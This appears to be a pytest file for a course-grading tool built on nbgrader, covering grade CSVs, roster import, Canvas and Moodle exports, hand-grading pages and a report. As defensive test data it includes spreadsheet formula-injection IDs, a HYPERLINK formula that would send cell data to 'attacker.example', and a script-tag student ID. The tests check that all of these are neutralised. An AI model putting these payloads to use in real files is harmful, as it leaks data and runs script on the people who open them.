"""Grades out of the course: grades.csv safe by construction, the roster, the LMS exports
against their format samples, hand-grading, and the report surviving any one trainee.

A small course is built here with nbgrader's own Gradebook API (no kernels run), so these
tests are quick; the same code runs on the graded demo class in test_grading.py.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook

from course.instructor import exports, grading, handgrade, report, roster
from course.instructor.grading.coursedir import kernels_find_this_python

SAMPLES = Path(__file__).parent / "data" / "exports"
HOSTILE_IDS = ["Smith, Jo", "=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tTAB", "\rCR"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _notebook(cells: list[nbformat.NotebookNode], **metadata: object) -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook(cells=cells)
    nb.metadata.update(metadata)
    return nb


def _graded(kind: str, grade_id: str, source: str, points: float) -> nbformat.NotebookNode:
    maker = nbformat.v4.new_code_cell if kind == "code" else nbformat.v4.new_markdown_cell
    cell = maker(source)
    cell.metadata["nbgrader"] = {
        "grade": True,
        "solution": kind == "markdown",
        "grade_id": grade_id,
        "points": points,
        "locked": False,
    }
    return cell


def _answer(source: str) -> nbformat.NotebookNode:
    cell = nbformat.v4.new_code_cell(source)
    cell.metadata["nbgrader"] = {"grade": False, "solution": True, "grade_id": "q1_answer", "locked": False}
    return cell


def make_course(
    root: Path, students: list[str], *, reflections: dict[str, float | None] | None = None
) -> Path:
    """A course of a practice module and two graded modules (2 autograded points and a
    5-point reflection each), every trainee with a submission of both graded modules;
    ``reflections`` gives hand-graded scores (None: not graded yet)."""
    kernels_find_this_python()  # nbgrader's Gradebook runs this environment's alembic
    root.mkdir(parents=True)
    (root / "nbgrader_config.py").write_text(
        'c = get_config()  # noqa: F821\nc.CourseDirectory.source_directory = "solutions"\n'
        "from course.instructor.grading.feedback import configure\n\nconfigure(c)\n",
        encoding="utf-8",
    )
    practice = root / "solutions" / "00_orientation"
    practice.mkdir(parents=True)
    nbformat.write(_notebook([], sales_course={"practice": True}), practice / "orientation.ipynb")
    rubric = "**Model answer and rubric.** A story, two sources, one change. <b>bold</b>"
    for module in ("01_first", "02_second"):
        (root / "solutions" / module).mkdir(parents=True)
        nbformat.write(
            _notebook(
                [
                    _answer("q1 = 1"),
                    _graded("code", "test_q1", "# Check: q1", 2),
                    _graded("markdown", "reflection", rubric, 5),
                ]
            ),
            root / "solutions" / module / "nb.ipynb",
        )
    reflections = reflections or {}
    with Gradebook(grading.db_url(root)) as gradebook:
        for module in ("00_orientation", "01_first", "02_second"):
            gradebook.update_or_create_assignment(module)
            gradebook.update_or_create_notebook("nb", module)
        for module in ("01_first", "02_second"):
            gradebook.update_or_create_grade_cell("test_q1", "nb", module, max_score=2, cell_type="code")
            gradebook.update_or_create_grade_cell(
                "reflection", "nb", module, max_score=5, cell_type="markdown"
            )
            gradebook.update_or_create_solution_cell("reflection", "nb", module)
            gradebook.update_or_create_solution_cell("q1_answer", "nb", module)
        for student in students:
            gradebook.update_or_create_student(student)
            for module in ("01_first", "02_second"):
                gradebook.add_submission(module, student)
                check = gradebook.find_grade("test_q1", "nb", module, student)
                check.auto_score, check.needs_manual_grade = 2.0, False
                reflection = gradebook.find_grade("reflection", "nb", module, student)
                reflection.manual_score = reflections.get(student)
                reflection.needs_manual_grade = reflection.manual_score is None
                folder = grading.folder_of(root, "autograded", student, module)
                folder.mkdir(parents=True)
                nbformat.write(
                    _notebook(
                        [_answer("q1 = 1"), _graded("markdown", "reflection", f"My story, by {student}", 5)]
                    ),
                    folder / "nb.ipynb",
                )
        gradebook.db.commit()
    return root


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


# --------------------------------------------------------------------------- grades.csv (#25 item 3)


def test_grades_csv_survives_any_trainee_id_and_runs_no_formula(tmp_path: Path) -> None:
    root = make_course(tmp_path / "course", HOSTILE_IDS)
    hyperlink = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    state = {
        f"01_first/{hyperlink}": {
            "status": "failed",
            "result": {"status": "error", "reasons": [f"{hyperlink}.ipynb is not a notebook"]},
        },
        "01_first/Smith, Jo": {"status": "graded", "result": {"status": "graded", "reasons": []}},
    }
    for _ in range(2):  # the second export reads nothing back from the first: it cannot be truncated
        path = grading.export_csv(root, grading.db_url(root), state)
        text = path.read_text(encoding="utf-8")
        rows = _rows(path)
        assert all(len(row) == len(exports.GRADES_HEADER) for row in rows)
        for line in text.splitlines():
            assert line.startswith('"') and line.endswith('"'), f"every field quoted: {line!r}"
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA)], "a cell a spreadsheet would run"
    by_id = {row[3]: row for row in rows[1:] if row[0] == "01_first"}
    assert "Smith, Jo" in by_id and by_id["Smith, Jo"][9] == "2"  # score intact, columns in place
    assert "'=1+1" in by_id and "'@cmd" in by_id
    failed = by_id["'" + hyperlink]
    assert failed[11] == "failed" and failed[12].startswith("'=HYPERLINK")


def test_status_says_the_reflection_waits_until_a_human_grades_it(tmp_path: Path) -> None:
    root = make_course(tmp_path / "course", ["ana", "bo"], reflections={"ana": 4.0})
    rows = list(csv.DictReader(grading.export_csv(root, grading.db_url(root)).open(encoding="utf-8")))
    status = {(r["assignment"], r["student_id"]): r["status"] for r in rows}
    assert status[("01_first", "ana")] == "graded"
    assert status[("01_first", "bo")] == "auto-graded, reflection pending"
    assert status[("00_orientation", "ana")] == "not submitted"


# --------------------------------------------------------------------------- the roster


def test_roster_import_fills_nbgraders_student_database(tmp_path: Path) -> None:
    root = make_course(tmp_path / "course", ["ana"])
    sheet = tmp_path / "roster.csv"
    sheet.write_text(
        "\ufeffID,Name,Email,LMS_user_id,section\nana,Ana Lima,ana@example.com,1001,A\nbo,Bo Chen,,1002,A\n",
        encoding="utf-8",
    )
    entries = roster.import_roster(root, sheet)
    assert [e.id for e in entries] == ["ana", "bo"]
    with Gradebook(grading.db_url(root)) as gradebook:
        ana = gradebook.find_student("ana")
        assert (ana.first_name, ana.last_name, ana.email, ana.lms_user_id) == (
            "Ana",
            "Lima",
            "ana@example.com",
            "1001",
        )
        assert gradebook.find_student("bo").lms_user_id == "1002"
    assert set(roster.load(root) or {}) == {"ana", "bo"}


def test_a_bad_roster_names_every_bad_row_and_changes_nothing(tmp_path: Path) -> None:
    root = make_course(tmp_path / "course", ["ana"])
    sheet = tmp_path / "roster.csv"
    sheet.write_text('id,name\n"Smith, Jo",x\n=cmd,y\nana,A\nana,B\n,no id\n', encoding="utf-8")
    with pytest.raises(roster.RosterError) as error:
        roster.import_roster(root, sheet)
    message = str(error.value)
    assert "row 2" in message and "row 3" in message and "row 5: ana is on the roster twice" in message
    assert "row 6: no id" in message and "nothing changed" in message
    assert roster.load(root) is None
    (tmp_path / "empty.csv").write_text("name,email\nA,a@x\n", encoding="utf-8")
    with pytest.raises(roster.RosterError, match="no 'id' column"):
        roster.read_csv(tmp_path / "empty.csv")


# --------------------------------------------------------------------------- LMS exports


def _import_roster(root: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "roster.csv"
    sheet.write_text(
        "id,first_name,last_name,email,lms_id,sis_user_id,section\n"
        "ana,Ana,Lima,ana@example.com,1001,S-1001,Sales leaders 2026\n"
        "bo,Bo,Chen,bo@example.com,1002,,Sales leaders 2026\n"
        "cy,Cy,Diaz,=cy@example.com,1003,,\n",
        encoding="utf-8",
    )
    roster.import_roster(root, sheet)


def test_canvas_export_matches_the_canvas_gradebook_import_format(tmp_path: Path) -> None:
    root = make_course(tmp_path / "course", ["ana", "bo", "stray"], reflections={"ana": 4.0})
    _import_roster(root, tmp_path)
    made = exports.export(root, "canvas")
    rows, sample = _rows(made.path), _rows(SAMPLES / "canvas_sample.csv")
    assert rows[0][:5] == sample[0][:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert rows[0][5:] == ["01_first", "02_second"], "graded modules only: no practice module"
    assert rows[1][0] == sample[1][0] == "    Points Possible" and rows[1][5:] == ["7", "7"]
    people = {row[1]: row for row in rows[2:]}
    assert set(people) == {"1001", "1002", "1003"}, "the roster's trainees, by LMS id; 'stray' kept apart"
    assert people["1001"] == [
        "Lima, Ana",
        "1001",
        "S-1001",
        "ana@example.com",
        "Sales leaders 2026",
        "6",
        "6",
    ]
    assert people["1002"][5:] == ["", ""], "a score whose reflection waits is left blank"
    assert people["1003"][3] == "'=cy@example.com", "a formula from the roster is neutralised"
    assert made.held_back == 2
    for row in rows[1:]:  # what Canvas reads as a score: a number or blank
        assert all(cell == "" or float(cell) >= 0 for cell in row[5:])
    pending = _rows(exports.export(root, "canvas", tmp_path / "all.csv", include_pending=True).path)
    assert {row[1]: row[5] for row in pending[2:]}["1002"] == "2"


def test_moodle_export_matches_the_moodle_grade_import_format(tmp_path: Path) -> None:
    root = make_course(tmp_path / "course", ["ana", "bo"], reflections={"ana": 4.0})
    _import_roster(root, tmp_path)
    rows, sample = _rows(exports.export(root, "moodle").path), _rows(SAMPLES / "moodle_sample.csv")
    assert rows[0][:4] == sample[0][:4] and {"Email address", "ID number"} <= set(rows[0])
    assert rows[0][4:] == ["01_first", "02_second", "01_first status", "02_second status"]
    people = {row[3]: row for row in rows[1:]}
    assert people["ana@example.com"][4:6] == ["6", "6"]
    assert people["bo@example.com"][4:] == ["-", "-", *[exports.PENDING] * 2]
    assert people["'=cy@example.com"][4:6] == ["-", "-"], "not handed in: no grade"
    for row in [*rows[1:], *sample[1:]]:  # Moodle stops the whole import at any other non-number
        assert all(cell in ("", "-") or float(cell) >= 0 for cell in row[4:6])


def test_wide_export_has_points_possible_and_says_what_waits(tmp_path: Path) -> None:
    root = make_course(tmp_path / "course", ["ana", "bo"], reflections={"ana": 4.0})
    rows, sample = _rows(exports.export(root, "wide").path), _rows(SAMPLES / "wide_sample.csv")
    assert rows[0][:4] == sample[0][:4] and rows[0][-3:] == sample[0][-3:]
    assert rows[1][0] == sample[1][0] == "Points possible" and rows[1][4:6] == ["7", "7"]
    people = {row[0]: row for row in rows[2:]}
    assert people["ana"][-1] == "final" and people["ana"][4:7] == ["6", "6", "12"]
    assert (
        people["bo"][-1]
        == "01_first: auto-graded, reflection pending; 02_second: auto-graded, reflection pending"
    )


def test_nothing_graded_is_a_clear_error(tmp_path: Path) -> None:
    root = make_course(tmp_path / "course", [])
    with pytest.raises(ValueError, match="Nothing graded yet"):
        exports.export(root, "canvas")


# --------------------------------------------------------------------------- hand-grading


def test_handgrading_shows_every_answer_beside_the_rubric_and_writes_through_the_gradebook(
    tmp_path: Path,
) -> None:
    root = make_course(tmp_path / "course", ["ana", "bo<script>alert(1)<"])
    made = handgrade.prepare(root, "01_first")
    page = made.page.read_text(encoding="utf-8")
    assert "Content-Security-Policy" in page and "<script" not in page
    assert "My story, by bo&lt;script&gt;alert(1)&lt;" in page and "&lt;b&gt;bold&lt;/b&gt;" in page
    assert "Model answer and rubric" in page and made.answers == 2
    rows = list(csv.DictReader(made.sheet.open(encoding="utf-8")))
    assert [r["question"] for r in rows] == ["reflection", "reflection"]
    for row in rows:
        row["score"], row["comment"] = ("4", "Name the source.") if row["trainee_id"] == "ana" else ("9", "")
    with made.sheet.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, handgrade.SHEET_HEADER)
        writer.writeheader()
        writer.writerows(rows)
    with pytest.raises(ValueError, match="should be a number from 0 to 5") as error:
        handgrade.apply_sheet(root, "01_first", made.sheet)
    assert "nothing changed" in str(error.value)
    with Gradebook(grading.db_url(root)) as gradebook:
        assert gradebook.find_grade("reflection", "nb", "01_first", "ana").manual_score is None
    rows[1]["score"] = ""
    with made.sheet.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, handgrade.SHEET_HEADER)
        writer.writeheader()
        writer.writerows(rows)
    applied = handgrade.apply_sheet(root, "01_first", made.sheet)
    assert (applied.scores, applied.cleared) == (1, 1)
    with Gradebook(grading.db_url(root)) as gradebook:
        grade = gradebook.find_grade("reflection", "nb", "01_first", "ana")
        assert (grade.manual_score, grade.needs_manual_grade) == (4.0, False)
        assert (
            gradebook.find_comment("reflection", "nb", "01_first", "ana").manual_comment == "Name the source."
        )
        assert gradebook.find_grade("reflection", "nb", "01_first", "bo<script>alert(1)<").needs_manual_grade
    assert applied.feedback, "feedback remade by nbgrader"
    graded = (root / "feedback" / "ana" / "01_first" / "nb.html").read_text(encoding="utf-8")
    waiting = next((root / "feedback").glob("bo*/01_first/nb.html")).read_text(encoding="utf-8")
    assert "Not graded yet" not in graded and "Not final yet" not in graded
    assert "Not graded yet" in waiting and "auto-graded, reflection pending" in waiting
    assert handgrade.prepare(root, "01_first").sheet_kept, "a sheet holding scores is never overwritten"


# --------------------------------------------------------------------------- the report (#25 item 4)


def test_the_report_survives_a_4000_digit_hex_literal(tmp_path: Path) -> None:
    assert report._decision_label(report.literal_answers("q1 = 0x" + "f" * 4000)["q1"]) == "(long answer)"
    root = make_course(tmp_path / "course", ["ana", "hostile"])
    folder = grading.folder_of(root, "autograded", "hostile", "01_first")
    nbformat.write(_notebook([_answer("q1 = 0x" + "f" * 4000)]), folder / "nb.ipynb")
    broken = grading.folder_of(root, "autograded", "ana", "02_second") / "nb.ipynb"
    broken.write_text("{ not a notebook", encoding="utf-8")
    page = report.render(root, names=True)
    assert "(long answer)" in page
    assert "graded, but left out of this page" in page and "ana" in page


def test_a_number_and_the_same_number_as_text_are_one_answer() -> None:
    assert report._decision_label(0) == report._decision_label("0") == report._decision_label(" 0 ") == "0"
    assert report._decision_label("up") == "'up'" and report._decision_label(2.50) == "2.5"


def test_with_a_roster_the_report_names_trainees_and_keeps_strays_apart(tmp_path: Path) -> None:
    root = make_course(tmp_path / "course", ["ana", "bo", "stray-folder"])
    (tmp_path / "roster.csv").write_text("id,name\nana,Ana Lima\nbo,Bo Chen\n", encoding="utf-8")
    roster.import_roster(root, tmp_path / "roster.csv")
    page = report.render(root, ["01_first"], names=True)
    assert "Ana Lima (ana)" in page and "Bo Chen (bo)" in page
    assert "stray-folder" not in page and "2 graded submission(s)" in page
